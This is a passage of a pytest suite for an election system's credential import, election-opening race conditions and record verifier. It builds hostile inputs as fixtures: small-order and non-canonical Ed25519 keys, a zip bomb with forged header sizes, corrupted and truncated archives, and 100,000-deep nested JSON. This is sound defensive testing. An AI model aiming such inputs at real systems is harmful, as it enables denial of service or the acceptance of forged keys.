    "order 2 (y = -1)": "ec" + "ff" * 30 + "7f",
    "order 4 (y = 0)": "00" * 32,
    "order 8": ORDER_8,
    "non-canonical y = p": "ed" + "ff" * 30 + "7f",
    "non-canonical identity y = p + 1": "ee" + "ff" * 30 + "7f",
    "valid key plus a torsion point": "",  # made by the test
    "not on the curve": "02" + "00" * 31,
    "63 hex characters": "a" * 63,
    "not hex": "zz" * 32,
}


@pytest.mark.parametrize("name", list(BAD_CREDENTIALS))
def test_weak_or_malformed_public_credentials_are_refused_by_row(name: str) -> None:
    bad = BAD_CREDENTIALS[name] or crypto_core_ed25519_add(bytes.fromhex(_valid_key()), bytes.fromhex(ORDER_8)).hex()
    with pytest.raises(VoterListError) as caught:
        parse_public_credentials(f"voter_id,public_credential\nv1,{_valid_key()}\nv2,{bad}\n")
    assert caught.value.errors and all(e.startswith("row 3:") for e in caught.value.errors), caught.value.errors


def test_duplicates_across_case_and_rows_are_refused() -> None:
    key = _valid_key()
    with pytest.raises(VoterListError) as caught:
        parse_public_credentials(f"voter_id,public_credential\nv1,{key}\nv2,{key.upper()}\nv1,{_valid_key()}\n")
    assert "row 3: the same public credential as row 2" in caught.value.errors
    assert "row 4: voter_id 'v1' already on row 2" in caught.value.errors


def test_import_errors_name_the_row_and_change_nothing(app: Flask, admin: FlaskClient) -> None:
    flow.create(admin)
    issued = api_post(admin, "/api/elections/club/credentials", {"voter_ids": ["v1"]}).get_json()["credentials"]
    v1_public = public_credential("club", issued[0]["credential"])
    text = f"voter_id,public_credential\nv2,{_valid_key()}\nnobody,{_valid_key()}\nv3,{v1_public}\n"
    response = api_post(admin, "/api/elections/club/public-credentials", {"credentials_csv": text})
    body = response.get_data(as_text=True)
    assert response.status_code == 422 and "row 3: voter_id 'nobody'" in body and "row 4: public credential already held by voter 'v1'" in body
    assert {v["voter_id"]: v["delivery"] for v in admin.get("/api/elections/club/voters").get_json()["voters"]} == \
        {"v1": "handed", "v2": "none", "v3": "none", "v4": "none", "v5": "none"}


def test_server_issued_and_authority_credentials_mix_without_clashing(app: Flask, admin: FlaskClient) -> None:
    """v1 got a server credential; an authority file for the other voters then opens the election with both kinds,
    and the published list is exactly theirs."""
    trustees = flow.join(app, flow.create(admin))
    issued = api_post(admin, "/api/elections/club/credentials", {"voter_ids": ["v1"]}).get_json()["credentials"]
    secrets_ = {f"v{i}": new_private_credential() for i in range(2, 6)}
    text = "voter_id,public_credential\n" + "".join(f"{v},{public_credential('club', s)}\n" for v, s in secrets_.items())
    assert api_post(admin, "/api/elections/club/public-credentials", {"credentials_csv": text}).status_code == 200
    flow.ceremony(trustees, "club")
    assert api_post(admin, "/api/elections/club/open", {}).status_code == 200
    published = Election(_board(app), "club").context().credentials
    expected = {public_credential("club", issued[0]["credential"]), *(public_credential("club", s) for s in secrets_.values())}
    assert set(published) == expected
    refused = api_post(admin, "/api/elections/club/public-credentials", {"credentials_csv": text})
    assert refused.status_code == 409


BETWEEN, AFTER = "between the check and the write", "after the write"


def _deliveries(admin: FlaskClient) -> set[str]:
    return {v["delivery"] for v in admin.get("/api/elections/club/voters").get_json()["voters"]}


@contextlib.contextmanager
def _open_races(monkeypatch: pytest.MonkeyPatch, quorum: Any, when: str) -> Iterator[list[bool]]:
    """Within the block, another administrator opens election 'club' during the first change to its voters: right
    after the change's last look at the phase before it writes (an unlocked web_elections.phase call, or just
    before it takes the election's lock) or right after its write is committed. Yields a list that is non-empty
    once the open has run."""
    real_phase, real_locked, looks, fired = web_elections.phase, quorum.board.locked, [], []

    def other_open() -> None:
        fired.append(True)
        web_elections.open_election(quorum.board, "club")

    def racing_phase(board: Any, election_id: str) -> str:
        current = real_phase(board, election_id)
        if not fired:
            looks.append(current)
            if len(looks) == (1 if when == BETWEEN else 2):
                other_open()
                if when == AFTER:
                    current = real_phase(board, election_id)
        return current

    @contextlib.contextmanager
    def racing_locked(election_id: str) -> Iterator[Any]:
        if fired:  # the other administrator's open, or after it
            with real_locked(election_id) as lb:
                yield lb
            return
        if when == BETWEEN:
            other_open()
        with real_locked(election_id) as lb:
            yield lb
        if when == AFTER and not fired:
            other_open()

    monkeypatch.setattr(web_elections, "phase", racing_phase)
    monkeypatch.setattr(quorum.board, "locked", racing_locked)
    try:
        yield fired
    finally:
        monkeypatch.setattr(quorum.board, "locked", real_locked)
        monkeypatch.setattr(web_elections, "phase", real_phase)


@pytest.mark.parametrize("when", [BETWEEN, AFTER])
def test_an_import_racing_the_open_reports_what_happened(when: str, any_db_app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    """Another administrator opens the election during an import of public credentials: either right after the
    import's last look at the phase before it writes (an unlocked web_elections.phase call, or just before it takes
    the election's lock), or right after its write is committed. The outcomes are exactly: the open first, and the
    import is refused (409, saying so) with nothing changed; or the import first, and its credentials are the ones
    published (200). (Found by review: the import checked the phase, then wrote, then re-read the phase.)"""
    app, admin = any_db_app, signed_in(any_db_app)
    flow.ceremony(flow.join(app, flow.create(admin)), "club")
    assert api_post(admin, "/api/elections/club/credentials", {}).status_code == 200
    quorum = app.extensions["quorum"]
    text = "voter_id,public_credential\n" + "".join(f"v{i},{_valid_key()}\n" for i in range(1, 6))
    with _open_races(monkeypatch, quorum, when) as fired:
        response = api_post(admin, "/api/elections/club/public-credentials", {"credentials_csv": text})
    assert fired and web_elections.phase(quorum.board, "club") == "open"
    imported = {line.split(",")[1] for line in text.splitlines()[1:]}
    published = set(Election(quorum.board, "club").context().credentials)
    if when == BETWEEN:
        assert not imported & published
        assert response.status_code == 409 and _deliveries(admin) == {"handed"}, (response.status_code, _deliveries(admin))
        detail = response.get_json()["detail"]
        assert "no credential was imported" in detail and "already published" in detail and "nothing was changed" in detail, detail
    else:
        assert published == imported
        assert response.status_code == 200, response.get_json()
        assert _deliveries(admin) == {"authority"}


@pytest.mark.parametrize("change", ["issue", "replace_voters"])
def test_issuing_or_replacing_voters_racing_the_open_changes_nothing(change: str, any_db_app: Flask,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """issue and replace_voters had the import's check-then-write shape: an open landing between them published
    the credentials, then v1 got a new one the board does not hold (v1 could no longer vote), or the voter list
    changed under an open election. Now the open comes first and the change is refused, nothing changed."""
    app, admin = any_db_app, signed_in(any_db_app)
    flow.ceremony(flow.join(app, flow.create(admin)), "club")
    assert api_post(admin, "/api/elections/club/credentials", {}).status_code == 200
    quorum = app.extensions["quorum"]
    before = {(v["voter_id"], v["delivery"]) for v in admin.get("/api/elections/club/voters").get_json()["voters"]}
    with _open_races(monkeypatch, quorum, BETWEEN) as fired:
        if change == "issue":
            response = api_post(admin, "/api/elections/club/credentials", {"voter_ids": ["v1"]})
        else:
            response = api_post(admin, "/api/elections/club/voters", {"voters_csv": "voter_id\nw1\nw2\n"})
    assert fired and web_elections.phase(quorum.board, "club") == "open"
    detail = response.get_json()["detail"]
    assert response.status_code == 409 and "already published" in detail and "nothing was changed" in detail, detail
    assert {(v["voter_id"], v["delivery"]) for v in admin.get("/api/elections/club/voters").get_json()["voters"]} == before
    with quorum.session() as db:
        assert all(v.public_credential is None for v in db.scalars(select(Voter)))


def test_an_import_and_an_open_in_two_threads_serialize(any_db_app: Flask) -> None:
    """The import and the open really concurrent (two threads, each its own transaction): whichever takes the
    election's lock first, the outcome is one of the two above, never a mix."""
    app, admin = any_db_app, signed_in(any_db_app)
    flow.ceremony(flow.join(app, flow.create(admin)), "club")
    handed = api_post(admin, "/api/elections/club/credentials", {}).get_json()["credentials"]
    quorum = app.extensions["quorum"]
    text = "voter_id,public_credential\n" + "".join(f"v{i},{_valid_key()}\n" for i in range(1, 6))
    start, outcome = threading.Barrier(2), {}

    def run(name: str, step: Callable[[], Any]) -> None:
        start.wait()
        try:
            outcome[name] = step()
        except QuorumError as exc:
            outcome[name] = exc

    threads = [threading.Thread(target=run, args=("import", lambda: web_elections.import_public_credentials(
                   quorum.board, "club", text))),
               threading.Thread(target=run, args=("open", lambda: web_elections.open_election(
                   quorum.board, "club")))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert outcome["open"] is None, outcome
    published = set(Election(quorum.board, "club").context().credentials)
    if outcome["import"] == 5:
        assert published == {line.split(",")[1] for line in text.splitlines()[1:]} and _deliveries(admin) == {"authority"}
    else:
        assert isinstance(outcome["import"], QuorumError) and "no credential was imported" in str(outcome["import"]), outcome
        assert published == {public_credential("club", c["credential"]) for c in handed} and _deliveries(admin) == {"handed"}


# === 3. Memory-mapped records ======================================================================================
@pytest.fixture(scope="module")
def scenario(tmp_path_factory: pytest.TempPathFactory) -> Scenario:
    return scripted_record(tmp_path_factory.mktemp("review-records"))


def _zip(path: Path, files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression=method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return path


def _record_files(s: Scenario) -> dict[str, bytes]:
    assert s.record is not None
    return {"board.jsonl": (s.record / "board.jsonl").read_bytes(), "board.pub": (s.record / "board.pub").read_bytes()}


def _member_header(data: bytearray, name: str, central: bool) -> int:
    sig, name_at = (b"PK\x01\x02", 46) if central else (b"PK\x03\x04", 30)
    at = data.index(sig)
    while not data[at + name_at:].startswith(name.encode()):
        at = data.index(sig, at + 4)
    return at


def _corrupt_member(path: Path, name: str, offset: int, length: int) -> None:
    """Flip bytes of a member's compressed data (its CRC and sizes unchanged)."""
    data = bytearray(path.read_bytes())
    at = _member_header(data, name, central=False)
    n, m = struct.unpack("<HH", data[at + 26:at + 30])
    for k in range(at + 30 + n + m + offset, at + 30 + n + m + offset + length):
        data[k] ^= 0x55
    path.write_bytes(bytes(data))


def _restated(path: Path, **fields: int) -> Path:
    """board.jsonl's crc / compress_size / file_size rewritten in both its headers."""
    data = bytearray(path.read_bytes())
    for central, offsets in ((False, {"crc": 14, "compress_size": 18, "file_size": 22}),
                             (True, {"crc": 16, "compress_size": 20, "file_size": 24})):
        at = _member_header(data, "board.jsonl", central)
        for name, value in fields.items():
            struct.pack_into("<I", data, at + offsets[name], value)
    path.write_bytes(bytes(data))
    return path


def _run_bounded(script: str, *args: str, timeout: float = 90) -> tuple[int | None, str]:
    """Run a Python script in its own process group; on timeout kill that group (it may have forked workers)."""
    process = subprocess.Popen([sys.executable, "-c", script, *args], cwd=ROOT, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, text=True, start_new_session=True)
    try:
        out, _ = process.communicate(timeout=timeout)
        return process.returncode, out
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        out, _ = process.communicate()
        return None, out


@pytest.mark.parametrize("method,offset", [(zipfile.ZIP_DEFLATED, 20), (zipfile.ZIP_LZMA, 20), (zipfile.ZIP_BZIP2, 10)],
                         ids=["deflate", "lzma", "bzip2"])
def test_a_corrupt_compressed_stream_is_a_record_format_error(method: int, offset: int, scenario: Scenario, tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    path = _zip(tmp_path / "record.zip", _record_files(scenario), method)
    _corrupt_member(path, "board.jsonl", offset, 40)
    assert main(["verify", str(path), "--quiet", "--workers", "1"]) == 2
    assert "malformed record" in capsys.readouterr().err


def test_a_cut_zip_is_a_record_format_error(scenario: Scenario, tmp_path: Path) -> None:
    whole = _zip(tmp_path / "whole.zip", _record_files(scenario)).read_bytes()
    for cut in (0, 30, len(whole) // 2, len(whole) - 10):
        (tmp_path / "cut.zip").write_bytes(whole[:cut])
        with pytest.raises(RecordFormatError):
            read_raw(tmp_path / "cut.zip")


def test_a_zip_bomb_is_refused_before_expansion(scenario: Scenario, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """48 MiB of zeros in a 49 KB zip: refused on the stated sizes, no temporary file; stating a bigger compressed
    size to pass the ratio check needs those bytes in the zip (else the expansion stops with an error)."""
    files = _record_files(scenario)
    bomb = _zip(tmp_path / "bomb.zip", {"board.pub": files["board.pub"], "board.jsonl": b"\0" * (48 << 20)})
    assert bomb.stat().st_size < (1 << 20)

    def no_temporary_file(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("expanded before the size checks")

    with monkeypatch.context() as patched:
        patched.setattr(record_mod.tempfile, "TemporaryFile", no_temporary_file)
        with pytest.raises(RecordFormatError, match="compression ratio"):
            read_raw(bomb)
    info = zipfile.ZipFile(bomb).getinfo("board.jsonl")
    _restated(bomb, compress_size=(info.file_size - (1 << 20)) // record_mod.MAX_ZIP_RATIO + 1)
    with pytest.raises(RecordFormatError, match="unreadable in zip"):
        read_raw(bomb)


def test_the_stated_size_caps_the_expansion(scenario: Scenario, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A member stating more than the cap is refused before any temporary file; one stating less than it holds is
    cut at the stated size (CRC refused, or a matching CRC gives just the stated bytes)."""
    files = _record_files(scenario)
    jsonl = files["board.jsonl"]

    def no_temporary_file(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("expanded before the size check")

    with monkeypatch.context() as patched:
        patched.setattr(record_mod, "MAX_RECORD_BYTES", len(jsonl) - 1)
        patched.setattr(record_mod.tempfile, "TemporaryFile", no_temporary_file)
        with pytest.raises(RecordFormatError, match="too large"):
            read_raw(_zip(tmp_path / "big.zip", files))
    short = len(jsonl) - 1000
    with pytest.raises(RecordFormatError, match="unreadable in zip"):
        read_raw(_restated(_zip(tmp_path / "lying.zip", files), crc=zlib.crc32(jsonl), file_size=short))
    data, _ = read_raw(_restated(_zip(tmp_path / "lying.zip", files), crc=zlib.crc32(jsonl[:short]), file_size=short))
    assert len(data) == short and data[:] == jsonl[:short]
    with pytest.raises(RecordFormatError, match="truncated"):
        verify_record(tmp_path / "lying.zip", workers=1)


def test_a_folder_record_cannot_fill_the_temporary_folder(tmp_path: Path) -> None:
    record = tmp_path / "record"
    record.mkdir()
    (record / "board.pub").write_text("ab" * 32 + "\n")
    with (record / "board.jsonl").open("wb") as f:
        f.truncate(1 << 30)  # sparse: no disk used here
    script = (
        "import resource, signal, sys\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (32 << 20, 32 << 20))  # what 'the disk is full' looks like\n"
        "import voting.record as r\n"
        "r.MAX_RECORD_BYTES = 1 << 20\n"
        "try:\n"
        "    data, key = r.read_raw(sys.argv[1])\n"
        "    print('read', len(data))\n"
        "except r.RecordFormatError as exc:\n"
        "    print('refused', exc)\n"
    )
    code, out = _run_bounded(script, str(record))
    assert code == 0 and out.startswith("refused"), out
    assert "File too large" not in out, f"copied until the file size limit: {out}"


def test_a_record_shortened_during_verification_does_not_kill_the_verifier(scenario: Scenario, tmp_path: Path) -> None:
    """The folder is overwritten by a shorter export right after it was read: the verifier works on its private copy
    (mapping the file itself died with SIGBUS)."""
    record = tmp_path / "record"
    shutil.copytree(scenario.record, record)
    script = (
        "import sys\n"
        "from pathlib import Path\n"
        "import voting.verifier as v\n"
        "from voting.record import line_bounds\n"
        "record = Path(sys.argv[1])\n"
        "def shortened(data):\n"
        "    bounds = line_bounds(data)\n"
        "    (record / 'board.jsonl').write_bytes((record / 'board.jsonl').read_bytes().splitlines(keepends=True)[0])\n"
        "    return bounds\n"
        "v.line_bounds = shortened\n"
        "print('valid', v.verify_record(record, workers=1).valid)\n"
    )
    code, out = _run_bounded(script, str(record))
    assert code == 0 and out.strip().endswith("valid True"), (code, out[-500:])


def test_pins_are_checked_on_the_record_that_was_verified(scenario: Scenario, tmp_path_factory: pytest.TempPathFactory,
                                                          monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """Another board's self-consistent record is verified, then the genuine one appears in the folder: the pin is
    checked on the bytes verified and fails."""
    other = scripted_record(tmp_path_factory.mktemp("other-board"))
    record = tmp_path_factory.mktemp("swapped") / "record"
    shutil.copytree(other.record, record)
    real = cmd_verify.verify_raw

    def then_swapped(*args: Any, **kwargs: Any) -> Any:
        report = real(*args, **kwargs)
        for name in ("board.jsonl", "board.pub"):
            shutil.copyfile(scenario.record / name, record / name)
        return report

    monkeypatch.setattr(cmd_verify, "verify_raw", then_swapped)
    code = main(["verify", str(record), "--json", "--quiet", "--workers", "1", "--board-key", scenario.board.public_key])
    report = json.loads(capsys.readouterr().out)
    assert (record / "board.pub").read_text().strip() == scenario.board.public_key  # the swap happened
    assert code == 1 and not next(c for c in report["checks"] if c["name"] == "pinned_board_key")["ok"]


BAD_LINE_7 = (
    "import sys\n"
    "from pathlib import Path\n"
    "from voting.verifier import verify_record\n"
    "from voting.record import RecordFormatError\n"
    "try:\n"
    "    verify_record(Path(sys.argv[1]), workers=int(sys.argv[2]))\n"
    "    print('no error')\n"
    "except RecordFormatError as exc:\n"
    "    print('refused:', exc)\n"
)


def test_a_malformed_line_past_the_parameters_does_not_hang_a_parallel_verify(scenario: Scenario, tmp_path: Path) -> None:
    record = tmp_path / "record"
    shutil.copytree(scenario.record, record)
    lines = (record / "board.jsonl").read_bytes().splitlines(keepends=True)
    lines[6] = lines[6][:-2] + b"\xff\n"
    (record / "board.jsonl").write_bytes(b"".join(lines))
    code, out = _run_bounded(BAD_LINE_7, str(record), "1", timeout=30)
    assert code == 0 and "refused: board.jsonl line 7: not UTF-8" in out, out  # one process: the error
    code, out = _run_bounded(BAD_LINE_7, str(record), "2", timeout=30)
    assert code == 0, f"no answer within 30 s (killed): {out[-400:]}"
    assert "refused: board.jsonl line 7" in out


def _error(call: Callable[[], Any]) -> str:
    with pytest.raises(RecordFormatError) as caught:
        call()
    return str(caught.value)


DAMAGES = {  # damage: whether the pins (which read only up to the open entry) reach it
    "non-canonical line 2": True,
    "not UTF-8 on line 7": False,
    "no final newline": True,
    "empty": True,
}


@pytest.mark.parametrize("damage", list(DAMAGES))
def test_mapped_and_zipped_records_fail_like_bytes(damage: str, scenario: Scenario, tmp_path: Path) -> None:
    """The same defect gives the same message naming the same line, read as bytes (the previous reader), mapped
    from a folder's copy or from a zip's expansion, in read_record, verify_record and the pins."""
    files = _record_files(scenario)
    lines = files["board.jsonl"].splitlines(keepends=True)
    if damage == "non-canonical line 2":
        lines[1] = lines[1].replace(b'","', b'", "', 1)
    elif damage == "not UTF-8 on line 7":
        lines[6] = lines[6][:-2] + b"\xff\n"
    elif damage == "no final newline":
        lines[-1] = lines[-1][:-1]
    else:
        lines = []
    jsonl = b"".join(lines)
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "board.jsonl").write_bytes(jsonl)
    (folder / "board.pub").write_bytes(files["board.pub"])
    packed = _zip(tmp_path / "record.zip", {"board.jsonl": jsonl, "board.pub": files["board.pub"]})
    expected = _error(lambda: parse_board(jsonl, files["board.pub"]))
    assert expected.startswith("board.jsonl") and ("line" in expected) == (damage != "empty"), expected
    for path in (folder, packed):
        assert _error(lambda: read_record(path)) == expected
        assert _error(lambda: verify_record(path, workers=1)) == expected  # workers > 1: see the hang finding
        if DAMAGES[damage]:
            assert _error(lambda: check_pins(path, base_hash="00" * 32)) == expected
            assert _error(lambda: verify_record(path, workers=2)) == expected


def _process_state() -> tuple[int, int]:
    """Open descriptors, and mapped regions of a board.jsonl or of a deleted (temporary) file."""
    maps = Path("/proc/self/maps").read_text().splitlines()
    return len(os.listdir("/proc/self/fd")), sum("board.jsonl" in line or "(deleted)" in line for line in maps)


@pytest.mark.skipif(not Path("/proc/self/maps").exists(), reason="needs /proc")
def test_no_map_descriptor_or_temporary_file_outlives_a_read(scenario: Scenario, tmp_path: Path) -> None:
    """After verify_record (forked workers), check_pins and read_record, on a folder and a zip, valid or not, no
    map, descriptor or temporary copy is left (refcounting closes the maps, no gc needed)."""
    files = _record_files(scenario)
    packed = _zip(tmp_path / "record.zip", files)
    bad_folder = tmp_path / "bad"
    bad_folder.mkdir()
    (bad_folder / "board.jsonl").write_bytes(files["board.jsonl"][:-1])
    (bad_folder / "board.pub").write_bytes(files["board.pub"])
    bad_zip = _zip(tmp_path / "bad.zip", {"board.jsonl": files["board.jsonl"][:-1], "board.pub": files["board.pub"]})
    verify_record(packed, workers=2)  # imports and pool machinery warmed up
    before = _process_state()
    for path, bad in ((scenario.record, bad_folder), (packed, bad_zip)):
        for _ in range(3):
            assert verify_record(path, workers=2).valid
            assert all(p["ok"] for p in check_pins(path, scenario.board.public_key, scenario.ctx.base_hash.hex()))
            assert read_record(path).board_public_key == scenario.board.public_key
            for call in (read_record, lambda b: verify_record(b, workers=2), lambda b: check_pins(b, base_hash="00" * 32)):
                with pytest.raises(RecordFormatError, match="truncated"):
                    call(bad)
    after = _process_state()
    assert after[0] <= before[0] and after[1] <= before[1], (before, after)  # (others may close meanwhile)


def test_changes_to_the_files_after_the_read_do_not_reach_the_verifier(scenario: Scenario, tmp_path: Path) -> None:
    """A live folder appended to, rewritten in place or shortened after read_raw: the data read is unchanged."""
    record = tmp_path / "record"
    shutil.copytree(scenario.record, record)
    data, _ = read_raw(record)
    original = data[:]
    with (record / "board.jsonl").open("r+b") as f:
        f.write(b"X" * 100)
        f.seek(0, os.SEEK_END)
        f.write(b'{"half an entry"')
    assert data[:] == original
    (record / "board.jsonl").write_bytes(b"")
    assert data[:] == original and len(record_mod.line_bounds(data)) == original.count(b"\n")


def test_a_directory_record_and_its_zip_verify_alike_with_forked_workers(scenario: Scenario, tmp_path: Path) -> None:
    packed = _zip(tmp_path / "record.zip", _record_files(scenario))
    reports = [verify_record(p, workers=w).to_json() for p in (scenario.record, packed) for w in (1, 2)]
    assert reports[0]["valid"] and all(r == reports[0] for r in reports)


def test_a_ledger_nested_too_deep_is_a_protocol_error_naming_it(tmp_path: Path) -> None:
    """A vote ledger of 100,000 nested '[' raised RecursionError (outside the project's errors)."""
    from threshold.errors import ProtocolError
    from voting.client import VoterClient

    ledger = tmp_path / "votes.json"
    ledger.write_text("[" * 100_000)
    with pytest.raises(ProtocolError, match="votes.json: unreadable"):
        VoterClient("http://127.0.0.1:9", ledger=ledger)._ledger()
